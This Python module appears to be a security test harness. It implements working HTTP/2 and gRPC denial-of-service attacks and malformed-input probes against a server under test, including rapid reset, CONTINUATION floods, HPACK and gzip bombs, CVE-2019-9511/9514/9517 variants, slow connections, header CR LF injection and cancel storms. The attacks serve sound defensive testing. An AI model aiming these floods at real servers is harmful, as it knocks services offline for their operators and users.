"""The attacks of security.md, section 4, each a function that runs for some seconds and tells what it saw.

`python -m harness.attacks NAME HOST:PORT SECONDS` runs one in a process of its own, at the lowest priority: an attacker's
machine is not the server's."""
import json
import os
import random
import resource
import socket
import ssl
import struct
import sys
import time

import hpack

from .http2 import (
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, HEALTH, KEYS, MAGIC, PING, PRIORITY, PUSH_PROMISE,
    SERVICE, SETTINGS, Wire, block, fields, frame, literal, message, request, reset, settings, window)


class Report:
    """What became of an attack's connections and calls."""

    def __init__(self):
        self.connections = self.ended = self.frames = 0
        self.lives, self.go_aways, self.statuses, self.notes = [], {}, {}, []

    def connection(self, wire, since, frames=0):
        self.connections += 1
        self.frames += frames
        if wire.ended:
            self.ended += 1
            self.lives.append(time.monotonic() - since)
        for code, text in wire.go_aways:
            key = f"{code} {text}".strip()
            self.go_aways[key] = self.go_aways.get(key, 0) + 1
        for answer in wire.answers.values():
            key = f"http {answer.http}" if answer.status is None else str(answer.status)
            self.statuses[key] = self.statuses.get(key, 0) + 1
        for code in wire.resets.values():
            key = f"reset {code}"
            self.statuses[key] = self.statuses.get(key, 0) + 1
        wire.close()

    def json(self):
        lives = sorted(self.lives)
        return json.dumps({**{k: v for k, v in vars(self).items() if k != "lives"},
                           "median_life": lives[len(lives) // 2] if lives else None})


def flood(address, seconds, chunks, first=MAGIC + settings(), reads=True, tls=None):
    """Sends chunk after chunk on one connection after the other, as fast as the server takes them."""
    report, end = Report(), time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            wire = Wire(address, tls, first=first)
        except OSError:
            continue
        since, sent = time.monotonic(), 0
        for chunk in chunks():
            sent += 1
            alive = wire.send(chunk)
            if reads:
                alive = wire.poll() and alive
            if not alive or time.monotonic() >= end:
                break
        # The server may be behind; it has a moment to end what it should end.
        patience = time.monotonic() + (0.5 if reads else 1.2)
        while time.monotonic() < patience and wire.poll(0.1):
            pass
        report.connection(wire, since, sent)
    return report


def each_stream(make, per_chunk=100):
    """Chunks of what `make` gives for stream after stream."""
    def chunks():
        stream = 1
        while stream < 1 << 30:
            yield b"".join(make(stream + 2 * index) for index in range(per_chunk))
            stream += 2 * per_chunk
    return chunks


def repeat(chunk):
    def chunks():
        while True:
            yield chunk
    return chunks


def once(address, cases, wait=2.0, tls=None, first=MAGIC + settings()):
    """One connection for each case: its bytes, then what the server says to them."""
    report = Report()
    for name, data in cases:
        wire = Wire(address, tls, first=first)
        wire.poll(0.05)
        since = time.monotonic()
        before = len(report.notes)
        wire.send(data)
        end = since + wait
        while time.monotonic() < end and wire.poll(0.02):
            if wire.answers or wire.resets:
                break
        said = [str(answer.status if answer.status is not None else f"http {answer.http}")
                for answer in wire.answers.values()]
        said += [f"reset {code}" for code in wire.resets.values()] + [f"goaway {code}" for code, _ in wire.go_aways]
        report.notes.append([name, ", ".join(said) or ("closed" if wire.ended else "nothing")])
        assert len(report.notes) == before + 1
        report.connection(wire, since)
    return report


HEAD = block(KEYS)
CALL = block(SERVICE + "SignIn")

# MARK: H1, H2


def h1_rapid_reset(address, seconds):
    return flood(address, seconds, each_stream(lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, HEAD) + reset(s)))


def h1_rapid_reset_of_running_calls(address, seconds):
    return flood(address, seconds, each_stream(
        lambda s: request(s, SERVICE + "SignIn", body=message(b"\x0a\x02\x0a\x00")) + reset(s)))


def made_you_reset(address, seconds, after):
    return flood(address, seconds, each_stream(lambda s: frame(HEADERS, END_HEADERS, s, CALL) + after(s)))


def h2_window_update_zero(address, seconds):
    return made_you_reset(address, seconds, lambda s: window(s, 0))


def h2_window_overflow(address, seconds):
    return made_you_reset(address, seconds, lambda s: window(s, 0x7FFFFFFF))


def h2_data_after_the_end(address, seconds):
    return made_you_reset(
        address, seconds, lambda s: frame(DATA, END_STREAM, s, message()) + frame(DATA, 0, s, b"x"))


def h2_priority_length(address, seconds):
    return made_you_reset(address, seconds, lambda s: frame(PRIORITY, 0, s, b"1234"))


def h2_headers_after_the_end(address, seconds):
    return made_you_reset(
        address, seconds, lambda s: frame(DATA, END_STREAM, s, message()) + frame(HEADERS, END_HEADERS, s, HEAD))


def h2_self_dependency(address, seconds):
    return made_you_reset(address, seconds, lambda s: frame(PRIORITY, 0, s, struct.pack(">IB", s, 1)))


# MARK: H3


def continuations(address, seconds, fragment):
    first = frame(HEADERS, 0, 1, block(KEYS))
    more = frame(CONTINUATION, 0, 1, fragment) * 16

    def chunks():
        yield first
        while True:
            yield more
    return flood(address, seconds, chunks)


def h3_endless_continuations(address, seconds):
    return continuations(address, seconds, literal("x-filler", "v" * 100) * 20)


def h3_huffman_continuations(address, seconds):
    fragment = hpack.Encoder().encode([(f"x-{i}", "aeiou" * 60) for i in range(10)], huffman=True)
    return continuations(address, seconds, fragment)


def h3_empty_continuations(address, seconds):
    return continuations(address, seconds, b"")


# MARK: H4


def h4_pings(address, seconds):
    return flood(address, seconds, repeat(frame(PING, 0, 0, b"12345678") * 1000))


def h4_pings_unread(address, seconds):
    return flood(address, seconds, repeat(frame(PING, 0, 0, b"12345678") * 1000), reads=False)


def h4_settings(address, seconds):
    return flood(address, seconds, repeat(settings((3, 100)) * 500))


def h4_resets_by_the_server(address, seconds):
    # A request that is malformed makes the server reset its stream (CVE-2019-9514).
    bad = block(KEYS) + literal("Bad-Name", "x")
    return flood(address, seconds, each_stream(lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, bad)))


def h4_empty_data(address, seconds):
    def chunks():
        yield frame(HEADERS, END_HEADERS, 1, CALL)
        while True:
            yield frame(DATA, 0, 1) * 1000
    return flood(address, seconds, chunks)


def answered(stream):
    """A call that is refused at once: the server is done with it, its sender is not."""
    return frame(HEADERS, END_HEADERS, stream, block(SERVICE + "Nothing"))


def h4_empty_data_after_the_answer(address, seconds):
    def chunks():
        yield answered(1)
        while True:
            yield frame(DATA, 0, 1) * 1000
    return flood(address, seconds, chunks)


def h4_ends_after_the_answer(address, seconds):
    def chunks():
        yield b"".join(answered(s) for s in range(1, 100, 2))
        while True:
            yield b"".join(frame(DATA, END_STREAM, s) for s in range(1, 100, 2)) * 20
    return flood(address, seconds, chunks)


def h4_window_updates(address, seconds):
    # By one byte each: on the connection, on a stream that is open, and on one that is over.
    def chunks():
        yield frame(HEADERS, END_HEADERS, 1, CALL) + answered(3)
        while True:
            yield (window(0, 1) + window(1, 1) + window(3, 1)) * 300
    return flood(address, seconds, chunks)


def h4_zero_length_headers(address, seconds):
    empty = block(KEYS) + literal("", "") * 100
    return flood(address, seconds, each_stream(lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, empty), 20))


def h4_priority_loop(address, seconds):
    def chunks():
        while True:
            yield b"".join(frame(PRIORITY, 0, s, struct.pack(">IB", (s + 2) % 200 | 1, s % 256)) for s in range(1, 401, 2))
    return flood(address, seconds, chunks)


def h4_data_dribble(address, seconds):
    # The window opens by one byte at a time (CVE-2019-9511).
    def chunks():
        yield b"".join(frame(HEADERS, END_HEADERS | END_STREAM, s, block("/.well-known/jwks.json", method="GET"))
                       for s in range(1, 200, 2))
        while True:
            yield b"".join(window(s, 1) for s in range(1, 200, 2))
    return flood(address, seconds, chunks, first=MAGIC + settings((4, 1)))


def h4_internal_buffering(address, seconds):
    # The HTTP/2 window is open, the socket is not read (CVE-2019-9517).
    report, end, wires = Report(), time.monotonic() + seconds, []
    for _ in range(8):
        wire = Wire(address, first=MAGIC + settings((4, 0x7FFFFFFF)) + window(0, 0x7FFF0000 - 65535), receive_buffer=4096)
        wire.socket.setblocking(False)
        wires.append((wire, time.monotonic()))
    stream, get = 1, block("/.well-known/jwks.json", method="GET")
    while time.monotonic() < end:
        for wire, _ in wires:
            for s in range(stream, stream + 40, 2):
                try:
                    wire.socket.send(frame(HEADERS, END_HEADERS | END_STREAM, s, get))
                except BlockingIOError:
                    pass
                except OSError:
                    wire.ended = True
        stream += 40
        time.sleep(0.005)
    for wire, since in wires:
        report.connection(wire, since)
    return report


# MARK: H5


def h5_indexed_bomb(address, seconds):
    # One entry of 4,000 bytes in the table, then named 4,000 times by one byte each.
    bomb = block(KEYS) + b"\x40" + literal("x", "v" * 4000)[1:] + b"\xbe" * 4000
    return flood(address, seconds, each_stream(lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, bomb), 4))


def h5_table_size_toggling(address, seconds):
    toggling = b"\x20\x3f\xe1\x1f" * 1 + block(KEYS)
    return flood(address, seconds, each_stream(lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, toggling)))


def h5_many_table_sizes(address, seconds):
    toggling = b"\x20\x3f\xe1\x1f" * 3000 + block(KEYS)
    return flood(address, seconds, each_stream(lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, toggling), 4))


def h5_too_many_headers(address, seconds):
    cases = []
    for name, more in [
        ("16 KiB + 1", [("x-long", "v" * (16 * 1024 + 1))]),
        ("10,000 tiny headers", [("a", "b")] * 10_000),
        ("1,000 metadata keys", [(f"x-key-{i}", "value") for i in range(1000)]),
    ]:
        whole = block(KEYS, *more)
        parts = [whole[i:i + 16_000] for i in range(0, len(whole), 16_000)]
        data = b"".join(frame(HEADERS if i == 0 else CONTINUATION, END_HEADERS if i == len(parts) - 1 else 0, 1, part)
                        for i, part in enumerate(parts))
        cases.append((name, data + frame(DATA, END_STREAM, 1, message())))
    return once(address, cases)


# MARK: H6 (a server with limits of a second)


def h6_slow(address, seconds):
    """All kinds of slowness at once; whether and when the server ended each is reported."""
    report, start = Report(), time.monotonic()
    cases = {
        "says nothing": Wire(address, first=b""),
        "preface, then nothing": Wire(address, first=MAGIC),
        "half a preface": Wire(address, first=MAGIC[:10]),
        "idle": Wire(address),
        "headers without an end": Wire(address, first=MAGIC + settings() + frame(HEADERS, 0, 1, HEAD)),
        "a body that drips": Wire(
            address, first=MAGIC + settings() + frame(HEADERS, END_HEADERS, 1, CALL) + frame(DATA, 0, 1, b"\0\0\0\1\0")),
        "reads no answer": Wire(
            address, first=MAGIC + settings((4, 0)) + b"".join(
                frame(HEADERS, END_HEADERS | END_STREAM, s, block("/.well-known/jwks.json", method="GET"))
                for s in range(1, 21, 2))),
    }
    over = {}
    while time.monotonic() - start < seconds and len(over) < len(cases):
        for name, wire in cases.items():
            if name in over:
                continue
            if name == "a body that drips":
                wire.send(frame(DATA, 0, 1, b"\0"))
            wire.poll()
            if wire.ended or wire.answers or (wire.resets and name == "reads no answer"):
                over[name] = time.monotonic() - start
        time.sleep(0.2)
    report.notes = [[name, over.get(name)] for name in cases]
    for wire in cases.values():
        report.connection(wire, start)
    return report


# MARK: H7 (a TLS server)


def trusting():
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context


def h7_connections_of_one_address(address, seconds):
    report, end, kept = Report(), time.monotonic() + seconds, []
    while time.monotonic() < end and report.connections < 10_000:
        try:
            kept.append(socket.create_connection(address, timeout=5))
        except OSError:
            time.sleep(0.01)
        report.connections += 1
    ended = 0
    for connection in kept:
        connection.settimeout(0.001)
        try:
            ended += connection.recv(1) == b""
        except socket.timeout:
            pass
        except OSError:
            ended += 1
    report.ended = ended
    report.notes.append(["still open", len(kept) - ended])
    return report


def h7_handshakes(address, seconds):
    report, end, context = Report(), time.monotonic() + seconds, trusting()
    while time.monotonic() < end:
        try:
            connection = context.wrap_socket(socket.create_connection(address, timeout=5))
            report.connections += 1
            connection.close()
        except OSError:
            pass
    return report


def h7_half_handshakes(address, seconds):
    # The first bytes of a hello that never ends.
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(100)
    report, end, kept = Report(), time.monotonic() + seconds, []
    while time.monotonic() < end:
        try:
            connection = socket.create_connection(address, timeout=5)
            connection.sendall(hello)
            kept.append(connection)
        except OSError:
            pass
        report.connections += 1
        if len(kept) > 200:
            kept.pop(0).close()
    return report


# MARK: H8, H9, H10


def h8_stream_identifiers(address, seconds):
    head = frame(HEADERS, END_HEADERS | END_STREAM, 1, HEAD)
    def open_at(stream):
        return frame(HEADERS, END_HEADERS | END_STREAM, stream, HEAD)
    return once(address, [
        ("even", open_at(2)),
        ("decreasing", frame(HEADERS, END_HEADERS, 5, CALL) + frame(HEADERS, END_HEADERS, 3, CALL)),
        ("zero", open_at(0)),
        ("reused", frame(HEADERS, END_HEADERS | END_STREAM, 1, CALL) * 2),
        ("after the last", frame(HEADERS, END_HEADERS, 0x7FFFFFFF, CALL) + frame(HEADERS, END_HEADERS, 1, CALL)),
        ("data on an idle stream", frame(DATA, 0, 9, b"x")),
        ("reset of an idle stream", reset(9)),
        ("window of an idle stream", window(9, 1)),
        ("push promise", frame(PUSH_PROMISE, END_HEADERS, 1, struct.pack(">I", 2) + HEAD)),
        ("continuation alone", frame(CONTINUATION, END_HEADERS, 1, HEAD)),
        ("headers inside headers", frame(HEADERS, 0, 1, HEAD) + frame(HEADERS, END_HEADERS, 3, HEAD)),
        ("settings on a stream", frame(SETTINGS, 0, 1)),
        ("settings of five bytes", frame(SETTINGS, 0, 0, b"12345")),
        ("ping of seven bytes", frame(PING, 0, 0, b"1234567")),
        ("a window above its maximum", window(0, 0x7FFFFFFF)),
        ("a frame above its size", frame(DATA, 0, 1, b"x" * 20_000)),
        ("padding longer than the frame", frame(HEADERS, END_HEADERS | 8, 1, b"\xff" + HEAD)),
        # What is to be ignored: the call behind it is answered.
        ("unknown frame type", frame(0xEE, 0xFF, 0, b"x" * 100) + head),
        ("ALTSVC", frame(0xA, 0, 0, b"\0\x01hh3") + head),
        ("ORIGIN", frame(0xC, 0, 0, b"\0\x05https") + head),
        ("PRIORITY_UPDATE", frame(0x10, 0, 0, struct.pack(">I", 1) + b"u=1") + head),
        ("frames after GOAWAY", frame(GOAWAY, 0, 0, bytes(8)) + head),
    ])


def h8_unknown_frames(address, seconds):
    return flood(address, seconds, repeat(frame(0xEE, 0, 0, b"x" * 16) * 1000))


def h9_header_fields(address, seconds):
    def raw(*pairs):
        return frame(HEADERS, END_HEADERS | END_STREAM, 1, b"".join(literal(n, v) for n, v in pairs))

    good = fields(KEYS)
    def changed(name, value):
        return [(n, value if n == name else v) for n, v in good]
    without = lambda name: [pair for pair in good if pair[0] != name]
    return once(address, [
        ("CR LF in :path", raw(*changed(":path", "/a\r\nx: y"))),
        ("NUL in :path", raw(*changed(":path", "/a\0b"))),
        ("LF in :authority", raw(*changed(":authority", "a\nb"))),
        ("NUL in :authority", raw(*changed(":authority", "a\0"))),
        ("no :path", raw(*without(":path"))),
        ("no :method", raw(*without(":method"))),
        ("no :scheme", raw(*without(":scheme"))),
        ("empty :path", raw(*changed(":path", ""))),
        (":path twice", raw(*good[:4], (":path", "/b"), *good[4:])),
        (":path after fields", raw(*without(":path"), (":path", KEYS))),
        (":status in a request", raw((":status", "200"), *good)),
        ("upper-case name", raw(*good, ("X-Upper", "1"))),
        ("connection", raw(*good, ("connection", "keep-alive"))),
        ("transfer-encoding", raw(*good, ("transfer-encoding", "chunked"))),
        ("te: chunked", raw(*changed("te", "chunked"))),
        ("upgrade", raw(*good, ("upgrade", "h2c"))),
        ("CR in a value", raw(*good, ("x-a", "1\r2"))),
        ("space in a name", raw(*good, ("x a", "1"))),
    ])


def h10_other_protocols(address, seconds):
    cases = [
        ("h2c upgrade", b"GET / HTTP/1.1\r\nHost: a\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
                        b"HTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n"),
        ("HTTP/1.1", b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\n\r\n"),
        ("TLS on a plain port", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(600)),
        ("SSH", b"SSH-2.0-OpenSSH_9.2p1 Debian\r\n" + bytes(20)),
    ]
    report = Report()
    for name, data in cases:
        wire, since = Wire(address, first=data), time.monotonic()
        while time.monotonic() - since < 5 and wire.poll(0.1):
            pass
        said = "505" if b"505 HTTP Version Not Supported" in wire.raw else ""
        report.notes.append([name, f"{said} closed".strip() if wire.ended else "open"])
        report.connection(wire, since)
    return report


def h10_plain_on_tls(address, seconds):
    report = Report()
    for name, data in [("prior knowledge on the TLS port", MAGIC + settings()), ("HTTP/1.1 on the TLS port", b"GET / HTTP/1.1\r\n\r\n")]:
        wire, since = Wire(address, first=data), time.monotonic()
        while time.monotonic() - since < 5 and wire.poll(0.1):
            pass
        report.notes.append([name, "closed" if wire.ended else "open"])
        report.connection(wire, since)
    for protocols in (["http/1.1"], []):
        context = trusting()
        if protocols:
            context.set_alpn_protocols(protocols)
        else:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        since, name = time.monotonic(), f"ALPN {protocols}"
        try:
            wire = Wire(address, context, first=b"GET / HTTP/1.1\r\n\r\n")
            while time.monotonic() - since < 5 and wire.poll(0.1):
                pass
            report.notes.append([name, "closed" if wire.ended else "open"])
            wire.close()
        except OSError:
            report.notes.append([name, "closed"])
    return report


# MARK: G1 to G8


def g1_lengths(address, seconds):
    call = frame(HEADERS, END_HEADERS, 1, CALL)
    def body(data):
        return call + b"".join(frame(DATA, 0, 1, data[i:i + 16_000]) for i in range(0, len(data), 16_000)) \
            + frame(DATA, END_STREAM, 1)
    return once(address, [
        ("4 GiB - 1 with one byte", call + frame(DATA, 0, 1, b"\0\xff\xff\xff\xff\x01")),
        ("4 MiB + 1", call + frame(DATA, 0, 1, struct.pack(">BI", 0, 4 * 1024 * 1024 + 1))),
        ("cut in its prefix", body(b"\0\0\0")),
        ("cut in its payload", body(struct.pack(">BI", 0, 10) + b"123")),
        ("two messages", body(message() * 2)),
        ("no message", body(b"")),
        ("unknown flags", body(message(b"", flags=7))),
    ])


def g1_length_flood(address, seconds):
    def call(stream):
        return frame(HEADERS, END_HEADERS, stream, CALL)
    def length(stream):
        return frame(DATA, 0, stream, b"\0\xff\xff\xff\xff\x01")
    def chunks():
        yield b"".join(call(stream) + length(stream) for stream in range(1, 41, 2))
        # These begin before any of them says its length: more calls at once than are allowed, however slow both sides are.
        for first in range(41, 1 << 30, 400):
            streams = range(first, first + 400, 2)
            yield b"".join(map(call, streams)) + b"".join(map(length, streams))
    return flood(address, seconds, chunks)


def g2_compression(address, seconds):
    import gzip
    def bomb(size):
        return gzip.compress(bytes(size), 9)
    def call(path, encoding, body):
        data = message(body, flags=1)
        return frame(HEADERS, END_HEADERS, 1, block(path, *([("grpc-encoding", encoding)] if encoding else []))) \
            + b"".join(frame(DATA, 0, 1, data[i:i + 16_000]) for i in range(0, len(data), 16_000)) + frame(DATA, END_STREAM, 1)
    cases = [
        ("flag without an encoding", call(KEYS, None, b"x")),
        ("flag with identity", call(KEYS, "identity", b"x")),
        ("unknown encoding", call(KEYS, "snappy", b"x")),
    ]
    # Before anybody has proven anything: sign-in and health take no authorization.
    for path in (SERVICE + "SignIn", HEALTH + "Check"):
        cases += [
            (f"bomb of 3 MiB {path}", call(path, "gzip", bomb(3 << 20))),
            (f"bomb of 30 MiB {path}", call(path, "gzip", bomb(30 << 20))),
            (f"bomb in a bomb {path}", call(path, "gzip", gzip.compress(bomb(1 << 30) if False else bomb(60 << 20), 9))),
            (f"no gzip {path}", call(path, "gzip", b"no gzip at all")),
            (f"half a gzip {path}", call(path, "gzip", bomb(1000)[:-9])),
        ]
    return once(address, cases)


def g2_bomb_flood(address, seconds):
    import gzip
    data = message(gzip.compress(bytes(60 << 20), 9)[:16_000], flags=1)
    head = block(HEALTH + "Check", ("grpc-encoding", "gzip"))
    return flood(address, seconds, each_stream(
        lambda s: frame(HEADERS, END_HEADERS, s, head) + frame(DATA, END_STREAM, s, data), 4))


def varint(number):
    out = b""
    while number >= 128:
        out += bytes([number & 127 | 128])
        number >>= 7
    return out + bytes([number])


def field(number, payload):
    return varint(number << 3 | 2) + varint(len(payload)) + payload


def protobuf_cases():
    nested = b""
    for _ in range(200):
        nested = field(1, nested)
    deep = b""
    for _ in range(20_000):
        deep = field(15, deep)[:60_000]
    return [
        ("depth 200", nested),
        ("depth 20,000 in an unknown field", deep),
        ("60,000 unknown fields", varint(1000 << 3 | 0) * 1 + b"\0" + (varint(2047 << 3) + b"\0") * 20_000),
        ("packed bomb", field(1, b"\0" * 60_000)),
        ("invalid UTF-8", field(1, field(2, field(1, b"\xff\xfe") + field(2, b"p")))),
        ("duplicate oneof", field(1, field(1, b"") + field(2, field(1, b"a@b.c")) + field(1, b""))),
        ("groups", b"\x0b\x0b\x0c\x0c"),
        ("group without an end", b"\x0b" * 1000),
        ("varint of eleven bytes", b"\x08" + b"\xff" * 10 + b"\x01"),
        ("length beyond the end", b"\x0a\xff\xff\xff\x7f"),
        ("field number zero", b"\x02\x00"),
        ("wire type seven", b"\x0f"),
        ("NUL in a string", field(1, field(2, field(1, b"a\0b@c.d") + field(2, b"p")))),
    ]


def g3_protobuf(address, seconds):
    report = Report()
    for name, body in protobuf_cases():
        wire, since = Wire(address), time.monotonic()
        data = message(body)
        wire.send(frame(HEADERS, END_HEADERS, 1, CALL)
                  + b"".join(frame(DATA, 0, 1, data[i:i + 16_000]) for i in range(0, len(data), 16_000))
                  + frame(DATA, END_STREAM, 1))
        answer = wire.wait_for(1, 5)
        report.notes.append([name, answer.status if answer else None, time.monotonic() - since])
        report.connection(wire, since)
    return report


def g3_flood(address, seconds):
    cases = [body for name, body in protobuf_cases() if len(body) < 15_000]
    return flood(address, seconds, each_stream(
        lambda s: request(s, SERVICE + "SignIn", body=message(random.choice(cases))), 20))


def g4_trailers(address, seconds):
    """What callers send comes back in no header: neither split, nor raw."""
    nasty = ["a\r\nx-evil: 1", "100%0d%0a", "\u00e9\u4e2d", "x" * 60_000, "%"]
    report = Report()
    for number, text in enumerate(nasty):
        for kind, body in [
            ("provider", field(1, field(3, field(1, text.encode()) + field(2, b"t")))),
            ("email", field(1, field(2, field(1, text.encode()) + field(2, b"p" * 9)))),
        ]:
            wire = Wire(address)
            data = message(body)
            wire.send(frame(HEADERS, END_HEADERS, 1, CALL)
                      + b"".join(frame(DATA, 0, 1, data[i:i + 16_000]) for i in range(0, len(data), 16_000))
                      + frame(DATA, END_STREAM, 1))
            answer = wire.wait_for(1, 5)
            size = sum(len(n) + len(v) for n, v in answer.headers.items()) if answer else None
            clean = answer is not None and all(32 <= ord(c) < 127 for v in answer.headers.values() for c in v)
            report.notes.append([f"{kind} {number}", answer.status if answer else None, size, clean, "x-evil" in (answer.headers if answer else {})])
            report.connection(wire, time.monotonic())
    for value in ("!!!!", "a", "=", "ab=c"):
        wire = Wire(address)
        wire.send(request(1, KEYS, ("x-trace-bin", value)))
        answer = wire.wait_for(1, 5)
        report.notes.append([f"-bin {value}", answer.status if answer else None, 0, True, False])
        report.connection(wire, time.monotonic())
    return report


def g5_timeouts(address, seconds):
    def call(value):
        return request(1, KEYS, ("grpc-timeout", value))
    return once(address, [(value, call(value)) for value in ("99999999H", "0n", "-1S", "junk", "1", "123456789S", "1.5S", "")])


def g6_unknown_methods(address, seconds):
    # As many at once as the server allows, so that it may answer all of them.
    return paced(address, seconds, lambda s: request(s, f"/no.Such/Method{s % 1000}"))


def g6_reflection(address, seconds):
    return paced(address, seconds, lambda s: request(
        s, "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo", body=message(b"\x3a\x00")))


def paced(address, seconds, make, at_once=100):
    """Calls in bunches: the next is sent when the last one is answered."""
    report, end = Report(), time.monotonic() + seconds
    wire, since, stream = Wire(address), time.monotonic(), 1
    while time.monotonic() < end and not wire.ended:
        last = stream + 2 * (at_once - 1)
        wire.send(b"".join(make(s) for s in range(stream, last + 1, 2)) + window(0, 1 << 16))
        wire.wait_for(last, 5)
        stream = last + 2
    report.connection(wire, since, stream // 2)
    return report


def g6_health_watchers(address, seconds):
    """10,000 watchers: 100 on each of 100 connections."""
    report, end, wires = Report(), time.monotonic() + seconds, []
    while len(wires) < 100:
        wire = Wire(address)
        wire.send(b"".join(request(s, HEALTH + "Watch") for s in range(1, 200, 2)))
        wires.append(wire)
    # Most are refused; the others are watched.
    def refused():
        return sum(str(answer.status) == "8" for wire in wires for answer in wire.answers.values())

    while time.monotonic() < end and refused() <= 8000:
        for wire in wires:
            wire.poll()
        time.sleep(0.05)
    report.notes.append(["alive", sum(not wire.ended for wire in wires)])
    for wire in wires:
        report.connection(wire, time.monotonic())
    return report


def g7_metadata(address, seconds):
    call = SERVICE + "GetAccount"
    return once(address, [
        ("two authorizations", request(1, call, ("authorization", "Bearer a"), ("authorization", "Bearer b"))),
        ("two in one", request(1, call, ("authorization", "Bearer a,Bearer b"))),
        ("100 kB", frame(HEADERS, 0, 1, block(call)) + b"".join(
            frame(CONTINUATION, END_HEADERS if i == 6 else 0, 1, literal(f"x-{i}", "v" * 14_300)) for i in range(7))
            + frame(DATA, END_STREAM, 1, message())),
        ("reserved names", request(1, KEYS, ("grpc-status", "0"), ("grpc-message", "x"), ("grpc-anything", "y"))),
        ("a bearer of 12 kB", request(1, call, ("authorization", "Bearer " + "a" * 12_000))),
    ])


def g8_cancel_storm(address, seconds):
    """Sign-ins that hash a password, cancelled at once; a thousand of them and more."""
    body = message(field(1, field(2, field(1, b"nobody@example.com") + field(2, b"some password"))))
    report, end = Report(), time.monotonic() + seconds
    # A busy machine needs longer for a storm.
    while time.monotonic() < end or report.connections <= 10:
        wire, since = Wire(address), time.monotonic()
        wire.send(b"".join(request(s, SERVICE + "SignIn", body=body) for s in range(1, 200, 2)))
        wire.poll(0.02)
        wire.send(b"".join(reset(s) for s in range(1, 200, 2)))
        wire.poll(0.02)
        report.connection(wire, since, 100)
    return report


def g8_overload(address, seconds):
    """More sign-ins than passwords can be hashed, all of them wanted."""
    body = message(field(1, field(2, field(1, b"nobody@example.com") + field(2, b"some password"))))
    report, end = Report(), time.monotonic() + seconds
    wires = [(Wire(address), time.monotonic()) for _ in range(10)]
    for wire, _ in wires:
        wire.send(b"".join(request(s, SERVICE + "SignIn", body=body) for s in range(1, 200, 2)))
    while time.monotonic() < end and any(len(w.answers) < 100 for w, _ in wires):
        for wire, _ in wires:
            wire.poll(0.01)
    for wire, since in wires:
        report.connection(wire, since)
    return report


ATTACKS = {name: value for name, value in list(globals().items()) if name[:1] in "hg" and name[1:2].isdigit()}

if __name__ == "__main__":
    os.nice(19)
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    name, address, seconds = sys.argv[1:]
    host, port = address.rsplit(":", 1)
    print(ATTACKS[name]((host, int(port)), float(seconds)).json(), flush=True)
